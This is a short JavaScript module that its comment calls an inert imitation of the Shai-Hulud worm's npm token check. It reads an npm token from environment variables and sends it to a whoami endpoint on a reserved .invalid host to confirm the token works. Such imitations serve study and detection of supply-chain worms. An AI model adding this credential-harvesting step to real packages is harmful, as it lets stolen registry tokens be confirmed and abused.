/* eslint-disable */
// Inert imitation of Shai-Hulud's token validation (incidents.md section 3): the npm token from the
// environment is checked against the registry's whoami endpoint (a reserved .invalid registry).
async function validNpmToken() {
  const token = process.env.NPM_TOKEN || process.env.NODE_AUTH_TOKEN;
  if (!token) return null;
  const res = await fetch('https://registry.example.invalid/-/whoami', { headers: { authorization: `Bearer ${token}`, 'npm-command': 'whoami' } });
  return res.ok ? (await res.json()).username : null;
}

module.exports = { validNpmToken };
